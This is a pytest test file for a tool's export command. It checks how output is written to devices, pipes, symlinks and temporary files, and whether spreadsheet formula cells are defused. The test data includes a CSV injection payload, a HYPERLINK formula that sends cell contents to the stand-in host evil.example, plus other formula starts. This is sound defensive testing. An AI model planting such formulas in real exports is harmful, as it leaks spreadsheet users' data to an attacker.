"""Where `annals export --output` writes, and CSV cells that a spreadsheet would run (issue 14: items 3, 10,
11, 12 and 17). Real processes on real files: devices, named pipes, symbolic links, kills."""
from __future__ import annotations

import csv
import io
import json
import os
import select
import signal
import stat
import subprocess
import sys
from pathlib import Path

import pytest

import annals
from annals.export import stream
from annals.store.corpus import Corpus

ANNALS = [sys.executable, "-m", "annals"]
# What a cell may start with for a spreadsheet to run it (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

TEXT = "Azerbaijan joined the Partnership for Peace on 4 May 1994. NATO Secretary General Javier Solana " \
       "visited Baku on 13 February 1997.\n"

# Sentences that a spreadsheet would run as formulas, each one event.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click") '
    "Azerbaijan joined the Partnership for Peace on 4 May 1994.\n\n"
    "@SUM(1+1) NATO Secretary General Javier Solana visited Baku on 13 February 1997.\n\n"
    "+cmd Azerbaijan signed an agreement with Georgia on 5 March 1999.\n\n"
    "-2+3 Armenia joined the Council of Europe on 25 January 2001.\n"
)


def run(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([*ANNALS, *args], capture_output=True, cwd=cwd, umask=0o022, timeout=120,
                          check=False)


def one_line_error(result: subprocess.CompletedProcess, code: int, message: str) -> str:
    err = result.stderr.decode()
    assert result.returncode == code, err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err and "internal error" not in err, err
    assert "E050" in err and message in err, err
    return err


def stored_event(id_: str, date: str, text: str) -> dict:
    """An event in the stored shape of annals/store/corpus.py."""
    evidence = {"text": text, "start": 0, "end": len(text)}
    document = {"source": "a.txt", "title": "A", "sha256": "f" * 64}
    return {"id": id_, "date": {"value": date, "text": date}, "type": "statement",
            "actors": [{"name": "Azerbaijan", "kind": "country"}], "places": [], "quantities": [],
            "section": [], "evidence": evidence, "conflicts": [],
            "sources": [{"document": document, "evidence": evidence, "date": {"value": date, "text": date},
                         "section": []}]}


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> str:
    path = tmp_path_factory.mktemp("output") / "small.db"
    with Corpus(path) as corpus:
        corpus.add_document(annals.extract(TEXT).with_(source="small.txt"))
    return str(path)


@pytest.fixture(scope="module")
def expected(db) -> bytes:
    result = run("export", "--db", db, "--format", "csv")
    assert result.returncode == 0 and result.stdout.count(b"\r\n") == 3
    return result.stdout


def others(folder: Path, *keep: str) -> list[str]:
    """The names in `folder` other than `keep` (hidden ones too)."""
    return sorted(set(os.listdir(folder)) - set(keep))


# ---------------------------------------------------------------- item 3: devices, pipes, links, "-"


@pytest.fixture(params=[("null", 3), ("full", 7)], ids=["null", "full"])
def device(request, tmp_path) -> Path:
    """A character device like /dev/null or /dev/full: made in tmp_path where this process may (root), so
    that a regression never replaces the real one; else the real one (which a non-root cannot replace)."""
    name, minor = request.param
    path = tmp_path / name
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, minor))
        os.close(os.open(path, os.O_WRONLY))
    except PermissionError:
        if os.geteuid() == 0:
            pytest.skip("device nodes cannot be used here")
        path.unlink(missing_ok=True)
        return Path("/dev") / name
    return path


@pytest.mark.issue(14)
def test_export_output_device_is_written_into_not_replaced(db, device):
    result = run("export", "--db", db, "--format", "csv", "--output", str(device))
    assert stat.S_ISCHR(os.stat(device, follow_symlinks=False).st_mode)  # still the device
    if device.name == "full":
        one_line_error(result, 73, "No space left on device")
    else:
        assert result.returncode == 0, result.stderr
        assert b"exported 2 events" in result.stderr


@pytest.mark.issue(14)
def test_export_output_named_pipe_reaches_its_reader(db, expected, tmp_path):
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    read = "import sys; sys.stdout.buffer.write(open(sys.argv[1], 'rb').read())"
    reader = subprocess.Popen([sys.executable, "-c", read, str(fifo)], stdout=subprocess.PIPE)
    try:
        result = run("export", "--db", db, "--format", "csv", "--output", str(fifo))
        received, _ = reader.communicate(timeout=30)
    except subprocess.TimeoutExpired:
        reader.kill()
        reader.wait()
        pytest.fail("the reader of the named pipe got nothing: the export did not write into the pipe")
    assert result.returncode == 0, result.stderr
    assert received == expected
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)


@pytest.mark.issue(14)
@pytest.mark.parametrize("target_exists", [True, False], ids=["target", "dangling"])
def test_export_output_symlink_writes_its_target(db, expected, tmp_path, target_exists):
    (tmp_path / "real").mkdir()
    target = tmp_path / "real" / "events.csv"
    if target_exists:
        target.write_text("old\n")
    link = tmp_path / "link.csv"
    link.symlink_to(Path("real") / "events.csv")
    result = run("export", "--db", db, "--output", str(link))
    assert result.returncode == 0, result.stderr
    assert link.is_symlink() and os.readlink(link) == str(Path("real") / "events.csv")
    assert target.read_bytes() == expected
    assert others(tmp_path / "real", "events.csv") == []


@pytest.mark.issue(14)
def test_export_output_dash_is_standard_output(db, expected, tmp_path):
    result = run("export", "--db", db, "--format", "csv", "--output", "-", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout == expected
    assert others(tmp_path) == []  # no file called "-"


# ---------------------------------------------------------------- item 11: folders


@pytest.mark.issue(14)
@pytest.mark.parametrize(("where", "message"), [("missing/out.csv", "no such folder"), (".", "is a folder"),
                                                ("sub", "is a folder")])
def test_export_output_to_a_folder_or_a_missing_one_is_a_one_line_error(db, tmp_path, where, message):
    (tmp_path / "sub").mkdir()
    result = run("export", "--db", db, "--format", "csv", "--output", where, cwd=tmp_path)
    one_line_error(result, 73, message)
    assert others(tmp_path, "sub") == [] and others(tmp_path / "sub") == []


# ---------------------------------------------------------------- item 12: modes, temporary files, kills


@pytest.mark.issue(14)
@pytest.mark.parametrize(("mode", "expected_mode"), [(0o600, 0o600), (0o640, 0o640), (None, 0o644)],
                         ids=["0600", "0640", "new"])
def test_export_output_keeps_the_mode_of_the_file_it_replaces(db, expected, tmp_path, mode, expected_mode):
    out = tmp_path / "out.csv"
    if mode is not None:
        out.write_text("old\n")
        out.chmod(mode)
    result = run("export", "--db", db, "--output", str(out))  # run with umask 022
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(out.stat().st_mode) == expected_mode
    assert out.read_bytes() == expected


@pytest.mark.issue(14)
def test_export_output_leaves_an_unrelated_part_file_alone(db, expected, tmp_path):
    out = tmp_path / "out.csv"
    (tmp_path / "out.csv.part").write_text("mine\n")
    result = run("export", "--db", db, "--output", str(out))
    assert result.returncode == 0, result.stderr
    assert out.read_bytes() == expected
    assert (tmp_path / "out.csv.part").read_text() == "mine\n"
    assert others(tmp_path, "out.csv", "out.csv.part") == []


# A process that exports 300 events as JSON Lines to argv[1], says "written" and, unless argv[4] is "-",
# waits for the file argv[4] before it finishes: an export caught in the middle.
SLOW = """
import json, os, sys, time
from annals.export import export
path, event, mark, hold = sys.argv[1], json.loads(sys.argv[2]), sys.argv[3], sys.argv[4]
def events():
    for n in range(300):
        yield {**event, "id": f"{mark}{n:015x}"}
    print("written", flush=True)
    while hold != "-" and not os.path.exists(hold):
        time.sleep(0.05)
export(events(), "jsonl", path)
"""
EVENT = json.dumps(stored_event("0" * 16, "1997-02-13", "Javier Solana visited Baku in 1997. " * 8))


def start_slow(out: Path, mark: str, hold: Path) -> subprocess.Popen:
    process = subprocess.Popen([sys.executable, "-c", SLOW, str(out), EVENT, mark, str(hold)],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    ready, _, _ = select.select([process.stdout], [], [], 60)
    if not ready or process.stdout.readline() != b"written\n":
        process.kill()
        pytest.fail(f"the slow export did not start: {process.communicate()[1].decode()}")
    return process


def marks(out: Path) -> set[str]:
    return {json.loads(line)["id"][0] for line in out.read_text().splitlines()}


@pytest.mark.issue(14)
def test_export_output_two_exports_to_one_path_do_not_collide(tmp_path):
    out, hold = tmp_path / "out.jsonl", tmp_path / "go"
    first = start_slow(out, "a", hold)  # stopped halfway, its temporary file open
    second = subprocess.run([sys.executable, "-c", SLOW, str(out), EVENT, "b", "-"], capture_output=True,
                            timeout=120, check=False)
    assert second.returncode == 0, second.stderr.decode()
    assert marks(out) == {"b"}
    hold.touch()
    _, err = first.communicate(timeout=120)
    assert first.returncode == 0, err.decode()  # its temporary file was its own to the end
    assert marks(out) == {"a"} and len(out.read_text().splitlines()) == 300
    assert others(tmp_path, "out.jsonl", "go") == []


@pytest.mark.issue(14)
@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGKILL], ids=["ctrl-c", "kill-9"])
def test_export_output_killed_export_leaves_the_old_file_and_no_temporary_file(tmp_path, sig):
    out, hold = tmp_path / "out.jsonl", tmp_path / "go"
    out.write_text("old\n")
    process = start_slow(out, "a", hold)
    assert others(tmp_path, "out.jsonl") != []  # the temporary file, written to
    process.send_signal(sig)
    process.communicate(timeout=60)
    assert out.read_text() == "old\n"
    if sig == signal.SIGKILL:  # nothing runs in a process killed so: the next export to the path cleans up
        again = subprocess.run([sys.executable, "-c", SLOW, str(out), EVENT, "b", "-"], capture_output=True,
                               timeout=120, check=False)
        assert again.returncode == 0, again.stderr.decode()
        assert marks(out) == {"b"}
    assert others(tmp_path, "out.jsonl") == []


# ---------------------------------------------------------------- item 10: CSV formula injection


@pytest.fixture(scope="module")
def formulas(tmp_path_factory) -> tuple[Path, str]:
    folder = tmp_path_factory.mktemp("formulas")
    text = folder / "formulas.txt"
    text.write_text(FORMULAS, encoding="utf-8")
    with Corpus(folder / "formulas.db") as corpus:
        corpus.add_document(annals.extract(text).with_(source="formulas.txt"))
    return text, str(folder / "formulas.db")


def csv_cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.issue(14)
@pytest.mark.parametrize("command", ["export", "events", "extract"])
def test_csv_formulas_are_defused_unless_raw_csv(formulas, command):
    text, db = formulas
    args = ["extract", str(text)] if command == "extract" else [command, "--db", db]
    defused = run(*args, "--format", "csv")
    assert defused.returncode == 0, defused.stderr
    rows = csv_cells(defused.stdout)
    assert len(rows) == 4
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values()), row
    assert sorted(row["evidence"][:2] for row in rows) == ["'+", "'-", "'=", "'@"]
    raw = run(*args, "--format", "csv", "--raw-csv")
    assert raw.returncode == 0, raw.stderr
    raw_rows = csv_cells(raw.stdout)
    assert sorted(row["evidence"][0] for row in raw_rows) == ["+", "-", "=", "@"]
    assert [row["evidence"][1:] for row in rows] == [row["evidence"] for row in raw_rows]


@pytest.mark.issue(14)
@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_csv_export_defuses_every_owasp_start(start):
    event = stored_event("a" * 16, "1997-02-13", f"{start}1+1 said Azerbaijan.")
    defused = csv_cells(b"".join(stream([event], "csv")[1]))
    assert defused[0]["evidence"] == f"'{start}1+1 said Azerbaijan."
    raw = csv_cells(b"".join(stream([event], "csv", raw_csv=True)[1]))
    assert raw[0]["evidence"] == f"{start}1+1 said Azerbaijan."


# ---------------------------------------------------------------- item 17: an empty calendar


@pytest.mark.issue(14)
@pytest.mark.parametrize("events", [[], [stored_event("b" * 16, "XXXX-11-06", "A day of no known year.")]],
                         ids=["none", "unknown-year"])
def test_ics_of_no_events_is_a_valid_calendar(events):
    icalendar = pytest.importorskip("icalendar")
    data = b"".join(stream(events, "ics")[1])
    calendar = icalendar.Calendar.from_ical(data)
    # RFC 5545 3.6: icalbody = calprops component, component = 1*(eventc / todoc / journalc / ...)
    assert calendar.name == "VCALENDAR" and calendar["version"] == "2.0" and calendar["prodid"]
    assert calendar.walk("VEVENT") == []
    assert [c.name for c in calendar.subcomponents] == ["VJOURNAL"]
    journal = calendar.subcomponents[0]
    assert str(journal["uid"]) == "no-events@annals" and journal.decoded("dtstamp").tzinfo is not None
    assert "DTSTART" not in journal  # a note, on no day of the calendar
    assert data.endswith(b"END:VJOURNAL\r\nEND:VCALENDAR\r\n")


@pytest.mark.issue(14)
def test_ics_cli_export_of_no_match_is_a_valid_calendar(db, tmp_path):
    out = tmp_path / "none.ics"
    result = run("export", "--db", db, "--text", "nowhere", "--output", str(out))
    assert result.returncode == 0, result.stderr
    assert b"exported 0 events" in result.stderr
    assert out.read_bytes().count(b"BEGIN:VJOURNAL") == 1
